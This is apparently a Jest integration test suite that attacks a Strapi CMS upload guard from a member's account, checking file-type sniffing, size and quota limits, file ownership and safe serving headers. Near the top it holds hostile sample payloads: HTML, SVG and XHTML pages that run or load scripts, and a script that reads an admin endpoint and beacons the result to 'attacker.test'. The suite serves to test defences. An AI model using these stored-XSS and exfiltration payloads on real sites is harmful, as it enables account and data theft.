import { createHash } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import path from 'node:path';
import { adminToken, adminUpload, newAccount, registerAccount, strapiUrl } from '@/tests/support/backend';
import { claimedSizePng, noisePng } from '@/tests/support/images';

/**
 * What a member can do with files, tried as an attacker would: straight at the real Strapi with the member's own
 * token (the app's forms are no defence). The integration Strapi lets members upload images and PDF, at most 1 MB a
 * file and 2 MB in all.
 */

let visitor = 0;
async function member() {
  visitor += 1;
  const { jwt, user } = await registerAccount(newAccount('uploader'), `10.7.${Math.floor(visitor / 250)}.${visitor % 250}`);
  return { jwt, user, auth: { Authorization: `Bearer ${jwt}` } };
}

interface StoredFile {
  id: number;
  documentId: string;
  name: string;
  url: string;
  mime: string;
  ext: string;
  alternativeText: string | null;
}
interface Part {
  name: string;
  bytes: Buffer | string;
  type?: string;
}

/** POST /api/upload as a browser form would send it; fields are extra form parts (fileInfo, ref, refId, field). */
function upload(jwt: string, parts: Part[], { query = '', fields = {} }: { query?: string; fields?: Record<string, string> } = {}) {
  const form = new FormData();
  for (const part of parts)
    form.append(
      'files',
      new Blob([typeof part.bytes === 'string' ? part.bytes : new Uint8Array(part.bytes)], {
        type: part.type ?? 'application/octet-stream',
      }),
      part.name,
    );
  for (const [name, value] of Object.entries(fields)) form.append(name, value);
  return fetch(`${strapiUrl()}/api/upload${query}`, { method: 'POST', headers: { Authorization: `Bearer ${jwt}` }, body: form });
}

async function errorOf(response: Response) {
  return ((await response.json()) as { error: { status: number; name: string; message: string; details: Record<string, unknown> } }).error;
}

/** Every file in the media library, as the admin panel sees it. */
async function allFiles(): Promise<StoredFile[]> {
  const response = await fetch(`${strapiUrl()}/upload/files?pageSize=500`, { headers: { Authorization: `Bearer ${await adminToken()}` } });
  expect(response.status).toBe(200);
  return ((await response.json()) as { results: StoredFile[] }).results;
}

async function fileById(id: number): Promise<StoredFile | undefined> {
  return (await allFiles()).find((file) => file.id === id);
}

const sha = async (url: string) =>
  createHash('sha256')
    .update(Buffer.from(await (await fetch(`${strapiUrl()}${url}`)).arrayBuffer()))
    .digest('hex');

const JPEG = readFileSync('cms/seed/images/slate.jpg');
const PAGE = '<!doctype html><html><body><script src="/uploads/steal.js"></script><script>fetch("/admin/users/me")</script></body></html>';
const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script href="/uploads/steal.js"/><circle r="10"/></svg>';
const XHTML = '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)</script></body></html>';
const SCRIPT = 'fetch("/admin/users/me").then((r) => r.text()).then((t) => navigator.sendBeacon("https://attacker.test", t));';
const PDF =
  '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n';

/** A file the seed stored (an article's cover): no member's. */
async function seedCover(): Promise<StoredFile & { articleId: string }> {
  const response = await fetch(`${strapiUrl()}/api/articles?populate=cover&pagination[pageSize]=1&sort=id:asc`);
  const body = (await response.json()) as { data: { documentId: string; cover: StoredFile }[] };
  const article = body.data[0]!;
  return { ...article.cover, articleId: article.documentId };
}

describe('what a member may upload: the type is read from the bytes', () => {
  it.each([
    ['an HTML page', { name: 'page.html', bytes: PAGE, type: 'text/html' }],
    ['an HTML page sent as a PNG', { name: 'photo.png', bytes: PAGE, type: 'image/png' }],
    ['an SVG with <script href>', { name: 'logo.svg', bytes: SVG, type: 'image/svg+xml' }],
    ['an XHTML page', { name: 'page.xhtml', bytes: XHTML, type: 'application/xhtml+xml' }],
    ['a JavaScript file', { name: 'steal.js', bytes: SCRIPT, type: 'text/javascript' }],
    ['a JavaScript file sent as a JPEG', { name: 'steal.jpg', bytes: SCRIPT, type: 'image/jpeg' }],
  ])('refuses %s with 415 and stores nothing', async (_, part) => {
    const { jwt } = await member();
    const before = (await allFiles()).length;
    const response = await upload(jwt, [part]);
    expect(response.status).toBe(415);
    const error = await errorOf(response);
    expect(error).toMatchObject({ status: 415, name: 'UnsupportedMediaTypeError' });
    expect(error.message).toContain(part.name);
    expect(error.message).toContain('You can upload JPEG, PNG, WebP, AVIF, GIF or PDF files.');
    expect((await allFiles()).length).toBe(before);
  });

  it('stores an image under the type its bytes are, whatever its name and Content-Type say', async () => {
    const { jwt } = await member();
    const response = await upload(jwt, [{ name: 'innocent.html', bytes: JPEG, type: 'text/html' }]);
    expect(response.status).toBe(201);
    const [file] = (await response.json()) as StoredFile[];
    expect(file).toMatchObject({ name: 'innocent.jpg', mime: 'image/jpeg', ext: '.jpg' });
    expect(file!.url).toMatch(/\.jpg$/);
  });

  it('takes a type the operator allowed (PDF here), and serves it as an attachment', async () => {
    const { jwt } = await member();
    const response = await upload(jwt, [{ name: 'menu.pdf', bytes: PDF, type: 'application/pdf' }]);
    expect(response.status).toBe(201);
    const [file] = (await response.json()) as StoredFile[];
    expect(file).toMatchObject({ mime: 'application/pdf', ext: '.pdf' });
    const served = await fetch(`${strapiUrl()}${file!.url}`);
    expect(served.headers.get('content-disposition')).toBe('attachment');
  });

  it('refuses an image whose header claims 50,000 × 50,000 pixels (413), before anything decodes it', async () => {
    const { jwt } = await member();
    const before = (await allFiles()).length;
    const response = await upload(jwt, [{ name: 'bomb.png', bytes: claimedSizePng(50_000, 50_000), type: 'image/png' }]);
    expect(response.status).toBe(413);
    expect((await errorOf(response)).message).toBe('"bomb.png" is 50000 × 50000 pixels; an image may have at most 50 million pixels.');
    expect((await allFiles()).length).toBe(before);
  });
});

describe('a media field takes only its own kinds', () => {
  async function ownArticle(jwt: string) {
    const response = await fetch(`${strapiUrl()}/api/articles`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${jwt}`, 'Content-Type': 'application/json' },
      body: JSON.stringify({
        data: { title: `Owned ${Date.now()}`, slug: `owned-${Date.now()}-${Math.random().toString(36).slice(2, 7)}`, level: 'beginner' },
      }),
    });
    expect(response.status).toBe(201);
    const { data } = (await response.json()) as { data: { id: number; documentId: string } };
    return data;
  }

  it('refuses a PDF for an images-only field, through ref/refId/field (415) and in the entry itself (400 on the field)', async () => {
    const { jwt } = await member();
    const article = await ownArticle(jwt);
    const attach = { ref: 'api::article.article', refId: String(article.id), field: 'cover' };
    const refused = await upload(jwt, [{ name: 'menu.pdf', bytes: PDF, type: 'application/pdf' }], { fields: attach });
    expect(refused.status).toBe(415);
    expect((await errorOf(refused)).message).toBe('"menu.pdf" is a PDF file, which this field does not take.');

    const [pdf] = (await (await upload(jwt, [{ name: 'menu.pdf', bytes: PDF, type: 'application/pdf' }])).json()) as StoredFile[];
    const written = await fetch(`${strapiUrl()}/api/articles/${article.documentId}`, {
      method: 'PUT',
      headers: { Authorization: `Bearer ${jwt}`, 'Content-Type': 'application/json' },
      body: JSON.stringify({ data: { cover: pdf!.id } }),
    });
    expect(written.status).toBe(400);
    const error = await errorOf(written);
    expect(error.name).toBe('ValidationError');
    expect(error.details.errors).toEqual([
      expect.objectContaining({ path: ['cover'], message: '"menu.pdf" is a PDF file, which this field does not take.' }),
    ]);

    // However the entry names the file: a documentId, or Strapi's relation forms.
    for (const cover of [pdf!.documentId, { documentId: pdf!.documentId }, { connect: [{ id: pdf!.id }] }, { set: [pdf!.id] }]) {
      const again = await fetch(`${strapiUrl()}/api/articles/${article.documentId}`, {
        method: 'PUT',
        headers: { Authorization: `Bearer ${jwt}`, 'Content-Type': 'application/json' },
        body: JSON.stringify({ data: { cover } }),
      });
      expect(again.status).toBe(400);
    }

    // An image goes to the same field through the same call.
    expect((await upload(jwt, [{ name: 'cover.jpg', bytes: JPEG, type: 'image/jpeg' }], { fields: attach })).status).toBe(201);
  });

  it('attaches files only to the member’s own entries (403 otherwise, nothing stored)', async () => {
    const owner = await member();
    const article = await ownArticle(owner.jwt);
    const { jwt } = await member();
    const before = (await allFiles()).length;
    const response = await upload(jwt, [{ name: 'mine.jpg', bytes: JPEG, type: 'image/jpeg' }], {
      fields: { ref: 'api::article.article', refId: String(article.id), field: 'cover' },
    });
    expect(response.status).toBe(403);
    expect((await errorOf(response)).message).toBe('You can only attach files to your own entries.');
    expect((await allFiles()).length).toBe(before);
  });
});

describe("a media field takes the member's own files, or those the entry holds", () => {
  const headersOf = (jwt: string) => ({ Authorization: `Bearer ${jwt}`, 'Content-Type': 'application/json' });
  const title = () => `Files ${Date.now()}-${Math.random().toString(36).slice(2, 7)}`;
  async function ownImage(jwt: string) {
    const [file] = (await (await upload(jwt, [{ name: 'mine.jpg', bytes: JPEG, type: 'image/jpeg' }])).json()) as StoredFile[];
    return file!;
  }
  const notYours = (name: string) => `"${name}" is not one of your files: upload it to use it here.`;

  it("refuses another member's file and a file of the seed, on create and on update, naming the field", async () => {
    const other = await member();
    const theirs = await ownImage(other.jwt);
    const seed = await seedCover();
    const { jwt } = await member();
    for (const [field, value, file] of [
      ['cover', theirs.id, theirs],
      ['cover', { connect: [{ documentId: seed.documentId }] }, seed],
      ['gallery', [(await ownImage(jwt)).id, theirs.id], theirs],
    ] as const) {
      const created = await fetch(`${strapiUrl()}/api/articles`, {
        method: 'POST',
        headers: headersOf(jwt),
        body: JSON.stringify({ data: { title: title(), [field]: value } }),
      });
      expect(created.status).toBe(400);
      expect((await errorOf(created)).details.errors).toEqual([expect.objectContaining({ path: [field], message: notYours(file.name) })]);
    }

    const created = await fetch(`${strapiUrl()}/api/articles`, {
      method: 'POST',
      headers: headersOf(jwt),
      body: JSON.stringify({ data: { title: title() } }),
    });
    const { documentId } = ((await created.json()) as { data: { documentId: string } }).data;
    const updated = await fetch(`${strapiUrl()}/api/articles/${documentId}`, {
      method: 'PUT',
      headers: headersOf(jwt),
      body: JSON.stringify({ data: { cover: theirs.id } }),
    });
    expect(updated.status).toBe(400);
    expect((await errorOf(updated)).message).toBe(notYours(theirs.name));
    const stored = await fetch(`${strapiUrl()}/api/articles/${documentId}?populate=cover`, { headers: headersOf(jwt) });
    expect(((await stored.json()) as { data: { cover: unknown } }).data.cover).toBeNull();
  });

  it('takes its own upload, and a file the entry already holds when saved again unchanged', async () => {
    const { jwt } = await member();
    const mine = await ownImage(jwt);
    const created = await fetch(`${strapiUrl()}/api/articles`, {
      method: 'POST',
      headers: headersOf(jwt),
      body: JSON.stringify({ data: { title: title(), cover: mine.id } }),
    });
    expect(created.status).toBe(201);
    const { documentId } = ((await created.json()) as { data: { documentId: string } }).data;

    // An editor puts a picture of the site's in the member's gallery; the member's next save names it again.
    const seed = await seedCover();
    const byEditor = await fetch(`${strapiUrl()}/content-manager/collection-types/api::article.article/${documentId}`, {
      method: 'PUT',
      headers: { Authorization: `Bearer ${await adminToken()}`, 'Content-Type': 'application/json' },
      body: JSON.stringify({ gallery: [seed.id] }),
    });
    expect(byEditor.status).toBe(200);
    const again = await fetch(`${strapiUrl()}/api/articles/${documentId}`, {
      method: 'PUT',
      headers: headersOf(jwt),
      body: JSON.stringify({ data: { title: title(), cover: mine.id, gallery: [seed.id] } }),
    });
    expect(again.status).toBe(200);
  });
});

describe('whose file it is', () => {
  it('refuses to replace a file the seed stored (403): same bytes, mime and URL', async () => {
    const cover = await seedCover();
    const bytes = await sha(cover.url);
    const { jwt } = await member();
    const response = await upload(jwt, [{ name: 'x.png', bytes: noisePng(8, 8), type: 'image/png' }], { query: `?id=${cover.id}` });
    expect(response.status).toBe(403);
    expect((await errorOf(response)).message).toBe('You can only change files you uploaded.');
    const after = await fileById(cover.id);
    expect(after).toMatchObject({ url: cover.url, mime: cover.mime, name: cover.name });
    expect(await sha(cover.url)).toBe(bytes);
  });

  it('refuses to rewrite the texts of a file the seed stored (403)', async () => {
    const cover = await seedCover();
    const { jwt } = await member();
    const response = await upload(jwt, [], {
      query: `?id=${cover.id}`,
      fields: { fileInfo: JSON.stringify({ alternativeText: 'defaced', name: 'defaced' }) },
    });
    expect(response.status).toBe(403);
    expect(await fileById(cover.id)).toMatchObject({ alternativeText: cover.alternativeText, name: cover.name });
  });

  it('refuses to delete a file the seed stored, or another member’s (403)', async () => {
    const cover = await seedCover();
    const other = await member();
    const [theirs] = (await (await upload(other.jwt, [{ name: 'theirs.jpg', bytes: JPEG, type: 'image/jpeg' }])).json()) as StoredFile[];
    const { jwt } = await member();
    for (const id of [cover.id, theirs!.id]) {
      const response = await fetch(`${strapiUrl()}/api/upload/files/${id}`, {
        method: 'DELETE',
        headers: { Authorization: `Bearer ${jwt}` },
      });
      expect(response.status).toBe(403);
      expect(await fileById(id)).toBeDefined();
    }
    // Nor replace or re-describe another member's file.
    const replace = await upload(jwt, [{ name: 'x.jpg', bytes: JPEG, type: 'image/jpeg' }], { query: `?id=${theirs!.id}` });
    expect(replace.status).toBe(403);
  });

  it('lets a member replace, re-describe and delete their own file', async () => {
    const { jwt } = await member();
    const [mine] = (await (await upload(jwt, [{ name: 'mine.jpg', bytes: JPEG, type: 'image/jpeg' }])).json()) as StoredFile[];
    const described = await upload(jwt, [], {
      query: `?id=${mine!.id}`,
      fields: { fileInfo: JSON.stringify({ alternativeText: 'A pixel' }) },
    });
    expect(described.status).toBe(200);
    expect((await fileById(mine!.id))?.alternativeText).toBe('A pixel');
    const replaced = await upload(jwt, [{ name: 'new.png', bytes: noisePng(4, 4), type: 'image/png' }], { query: `?id=${mine!.id}` });
    expect(replaced.status).toBe(200);
    expect((await fileById(mine!.id))?.mime).toBe('image/png');
    // A replacement is checked as an upload is.
    const html = await upload(jwt, [{ name: 'page.png', bytes: PAGE, type: 'image/png' }], { query: `?id=${mine!.id}` });
    expect(html.status).toBe(415);
    const deleted = await fetch(`${strapiUrl()}/api/upload/files/${mine!.id}`, {
      method: 'DELETE',
      headers: { Authorization: `Bearer ${jwt}` },
    });
    expect(deleted.status).toBe(200);
    expect(await fileById(mine!.id)).toBeUndefined();
  });
});

describe('a member lists their own images (GET /api/portico-guard/uploads/mine)', () => {
  const mine = (jwt?: string) =>
    fetch(`${strapiUrl()}/api/portico-guard/uploads/mine`, { headers: jwt ? { Authorization: `Bearer ${jwt}` } : {} });

  it('lists only the caller’s own images, described as a Blocks image node needs them; never another member’s, a PDF or the seed’s', async () => {
    const alice = await member();
    const bob = await member();
    const [aliceImage] = (await (
      await upload(alice.jwt, [{ name: 'alice.png', bytes: noisePng(6, 4), type: 'image/png' }])
    ).json()) as StoredFile[];
    await upload(alice.jwt, [{ name: 'alice.pdf', bytes: PDF, type: 'application/pdf' }]);
    const [bobImage] = (await (
      await upload(bob.jwt, [{ name: 'bob.png', bytes: noisePng(5, 5), type: 'image/png' }])
    ).json()) as StoredFile[];
    const admins = await adminUpload('admin.png', 'not listed', 'image/png').catch(() => undefined);

    const response = await mine(alice.jwt);
    expect(response.status).toBe(200);
    const listed = ((await response.json()) as { data: (StoredFile & Record<string, unknown>)[] }).data;
    expect(listed.map((file) => file.id)).toEqual([aliceImage!.id]);
    expect(listed[0]).toMatchObject({
      name: 'alice.png',
      url: aliceImage!.url,
      mime: 'image/png',
      ext: '.png',
      width: 6,
      height: 4,
      hash: expect.any(String),
      size: expect.any(Number),
      provider: 'local',
      createdAt: expect.any(String),
      updatedAt: expect.any(String),
    });

    const bobs = ((await (await mine(bob.jwt)).json()) as { data: StoredFile[] }).data.map((file) => file.id);
    expect(bobs).toEqual([bobImage!.id]);
    expect(bobs).not.toContain(aliceImage!.id);
    if (admins) expect(bobs).not.toContain(admins.id);
  });

  it('asks for a signed-in member: without a token it is refused', async () => {
    expect([401, 403]).toContain((await mine()).status);
  });
});

describe('placeholders: a tiny preview of each image, kept with it', () => {
  const PLACEHOLDER = /^data:image\/webp;base64,[A-Za-z0-9+/]+={0,2}$/;
  type WithMetadata = StoredFile & { hash: string; provider_metadata: { portico?: { placeholder?: string; of?: string } } | null };

  it('is made for an image a member uploads, from its bytes, a few hundred bytes long', async () => {
    const { jwt } = await member();
    const response = await upload(jwt, [{ name: 'slate.jpg', bytes: JPEG, type: 'image/jpeg' }]);
    expect(response.status).toBe(201);
    const [stored] = (await response.json()) as StoredFile[];
    // Made beside the request, not in it: there a moment later.
    const madeBy = Date.now() + 10_000;
    while (Date.now() < madeBy && !((await fileById(stored!.id)) as WithMetadata).provider_metadata?.portico) {
      await new Promise((resolve) => setTimeout(resolve, 200));
    }
    const file = (await fileById(stored!.id)) as WithMetadata;
    expect(file.provider_metadata?.portico?.placeholder).toMatch(PLACEHOLDER);
    expect(file.provider_metadata!.portico!.of).toBe(file.hash);
    expect(file.provider_metadata!.portico!.placeholder!.length).toBeLessThan(1000);
  });

  it('reaches a visitor’s read of an entry’s media, as the app reads it', async () => {
    const cover = (await seedCover()) as StoredFile & Partial<WithMetadata>;
    expect(cover.provider_metadata?.portico?.placeholder).toMatch(PLACEHOLDER);
  });

  it('is not made for a file that is not an image', async () => {
    const { jwt } = await member();
    const response = await upload(jwt, [{ name: 'notes.pdf', bytes: PDF, type: 'application/pdf' }]);
    expect(response.status).toBe(201);
    const [stored] = (await response.json()) as StoredFile[];
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(((await fileById(stored!.id)) as WithMetadata).provider_metadata?.portico).toBeUndefined();
  });
});

describe('limits', () => {
  /** Sends the headers of an upload of `declaredBytes` and a first kilobyte, then waits for an answer. */
  function answerBeforeTheBody(
    jwt: string,
    declaredBytes: number | null,
    pathname = '/api/upload',
  ): Promise<{ status: number; body: string }> {
    return new Promise((resolve, reject) => {
      const url = new URL(`${strapiUrl()}/api/upload`);
      const request = http.request({
        host: url.hostname,
        port: url.port,
        path: pathname,
        method: 'POST',
        headers: {
          Authorization: `Bearer ${jwt}`,
          'Content-Type': 'multipart/form-data; boundary=xyz',
          ...(declaredBytes === null ? { 'Transfer-Encoding': 'chunked' } : { 'Content-Length': String(declaredBytes) }),
        },
      });
      const timer = setTimeout(() => {
        request.destroy();
        reject(new Error('Strapi waited for the body instead of answering'));
      }, 10_000);
      request.on('response', (response) => {
        let body = '';
        response.on('data', (data: Buffer) => (body += data.toString()));
        response.on('end', () => {
          clearTimeout(timer);
          request.destroy();
          resolve({ status: response.statusCode ?? 0, body });
        });
      });
      request.on('error', (error) => {
        clearTimeout(timer);
        reject(error);
      });
      request.write(
        `--xyz\r\nContent-Disposition: form-data; name="files"; filename="big.jpg"\r\nContent-Type: image/jpeg\r\n\r\n${'x'.repeat(1024)}`,
      );
    });
  }

  it.each(['/api/upload', '/API/Upload/'])(
    'refuses a 50 MB upload from a member to %s with 413 before reading its body',
    async (pathname) => {
      const { jwt } = await member();
      const answer = await answerBeforeTheBody(jwt, 50 * 1024 * 1024, pathname);
      expect(answer.status).toBe(413);
      expect(JSON.parse(answer.body).error.message).toBe('An upload may be at most 1 MB.');
    },
  );

  it('refuses an upload that does not say its length (411)', async () => {
    const { jwt } = await member();
    expect((await answerBeforeTheBody(jwt, null)).status).toBe(411);
  });

  it('refuses a file over the limit with 413 when it arrives, and stores nothing', async () => {
    const { jwt } = await member();
    const before = (await allFiles()).length;
    // About 1.01 MB: the request passes the check of its length (a file and the form around it),
    // the file does not pass the check of its size.
    const response = await upload(jwt, [{ name: 'large.png', bytes: noisePng(600, 590), type: 'image/png' }]);
    expect(response.status).toBe(413);
    expect((await errorOf(response)).message).toBe('"large.png" is 1.01 MB; a file may be at most 1 MB.');
    expect((await allFiles()).length).toBe(before);
  });

  // About 0.75 MB each, under the 1 MB a file; a third would take the member past 2 MB. PDF, which Strapi
  // stores as sent (it re-encodes images smaller, and the quota counts what it stored).
  const report = () => ({ name: 'report.pdf', bytes: `${PDF}%${'x'.repeat(750 * 1024)}\n`, type: 'application/pdf' });

  it('refuses what would take a member past their quota (413, saying so)', async () => {
    const { jwt } = await member();
    expect((await upload(jwt, [report()])).status).toBe(201);
    expect((await upload(jwt, [report()])).status).toBe(201);
    const third = await upload(jwt, [report()]);
    expect(third.status).toBe(413);
    expect((await errorOf(third)).message).toMatch(
      /^These files would bring what you have stored to 2\.\d\d MB; each member may store 2 MB\.$/,
    );
  });

  it('holds the quota when a member sends uploads at once', async () => {
    const { jwt } = await member();
    const statuses = await Promise.all([upload(jwt, [report()]), upload(jwt, [report()]), upload(jwt, [report()])]).then((answers) =>
      answers.map((answer) => answer.status).sort(),
    );
    expect(statuses).toEqual([201, 201, 413]);
  });

  // Node's own fetch sends the whole body before it reads the answer: a connection closed under it was 'fetch failed'.
  it.each([11, 20, 50])('answers a %i MB upload that Node’s fetch sends whole with a 413 it reads, CORS headers on', async (megabytes) => {
    const { jwt } = await member();
    const response = await fetch(`${strapiUrl()}/api/upload`, {
      method: 'POST',
      headers: {
        Authorization: `Bearer ${jwt}`,
        'Content-Type': 'multipart/form-data; boundary=xyz',
        Origin: 'https://site.example',
      },
      body: new Uint8Array(megabytes * 1024 * 1024),
    });
    expect(response.status).toBe(413);
    expect((await errorOf(response)).message).toBe('An upload may be at most 1 MB.');
    expect(response.headers.get('access-control-allow-origin')).toBe('https://site.example');
  });

  it('cuts off a client that keeps sending past 64 MB, after answering', async () => {
    const { jwt } = await member();
    const url = new URL(strapiUrl());
    // A raw connection: an HTTP client library may stop sending once answered, and would prove nothing.
    const outcome = await new Promise<{ sentMb: number; answer: string }>((resolve, reject) => {
      const socket = net.connect(Number(url.port), url.hostname);
      let sent = 0;
      let answer = '';
      const chunk = Buffer.alloc(1024 * 1024);
      const finish = () => resolve({ sentMb: sent / (1024 * 1024), answer });
      socket.on('data', (data: Buffer) => (answer += data.toString()));
      socket.on('error', finish);
      socket.on('close', finish);
      setTimeout(() => reject(new Error('Strapi kept reading past its bound')), 30_000).unref();
      socket.write(
        `POST /api/upload HTTP/1.1\r\nHost: ${url.host}\r\nAuthorization: Bearer ${jwt}\r\n` +
          `Content-Type: multipart/form-data; boundary=xyz\r\nContent-Length: ${200 * 1024 * 1024}\r\n\r\n`,
      );
      const pump = () => {
        while (sent < 200 * 1024 * 1024 && !socket.destroyed) {
          sent += chunk.length;
          if (!socket.write(chunk)) return socket.once('drain', pump);
        }
      };
      pump();
    });
    expect(outcome.answer).toMatch(/^HTTP\/1\.1 413 /);
    // Read and thrown away up to 64 MB (what was in flight besides), then closed: not all 200.
    expect(outcome.sentMb).toBeGreaterThan(60);
    expect(outcome.sentMb).toBeLessThan(150);
  });

  it('holds anyone who is not an API token to the member limit before the body, made-up tokens included', async () => {
    const answer = await answerBeforeTheBody('not-an-api-token', 50 * 1024 * 1024);
    expect(answer.status).toBe(413);
  });
});

describe('admins keep Strapi’s own rules', () => {
  it('an admin may upload an HTML page; it is served as an inert attachment', async () => {
    const file = await adminUpload('admin-page.html', PAGE, 'text/html');
    const served = await fetch(`${strapiUrl()}${file.url}`);
    expect(served.headers.get('content-disposition')).toBe('attachment');
    expect(served.headers.get('content-security-policy')).toMatch(/default-src 'none'.*sandbox/);
  });
});

describe('how /uploads is served, for files stored before the guard too', () => {
  const uploadsDir = () => {
    const dir = process.env.STRAPI_TEST_UPLOADS_DIR;
    if (!dir) throw new Error('STRAPI_TEST_UPLOADS_DIR is not set: run through jest --selectProjects integration');
    return dir;
  };
  beforeAll(() => {
    writeFileSync(path.join(uploadsDir(), 'old-page.html'), PAGE);
    writeFileSync(path.join(uploadsDir(), 'old-logo.svg'), SVG);
    writeFileSync(path.join(uploadsDir(), 'old-page.xhtml'), XHTML);
    writeFileSync(path.join(uploadsDir(), 'old-photo.png'), PAGE);
    writeFileSync(path.join(uploadsDir(), 'old-real.png'), noisePng(4, 4));
  });

  it.each([
    ['/uploads/old-page.html', 'attachment'],
    ['/uploads/old-logo.svg', 'attachment'],
    ['/uploads/old-page.xhtml', 'attachment'],
    ['/UPLOADS/old-page.html', 'attachment'],
    ['/uploads%2Fold-page.html', 'attachment'],
    ['/%75ploads/old-page.html', 'attachment'],
    ['//uploads/old-logo.svg', 'attachment'],
    ['/uploads/old-photo.png', null],
    ['/uploads/old-real.png', null],
    ['/uploads/missing.html', 'attachment'],
  ])('%s: nosniff, a CSP that runs nothing, Content-Disposition %s', async (url, disposition) => {
    const response = await fetch(`${strapiUrl()}${url}`);
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    const policy = response.headers.get('content-security-policy') ?? '';
    expect(policy.split(';').map((directive) => directive.trim())).toEqual(expect.arrayContaining(["default-src 'none'", 'sandbox']));
    expect(policy).not.toMatch(/script-src|'unsafe-eval'/);
    expect(response.headers.get('content-disposition')).toBe(disposition);
  });
});
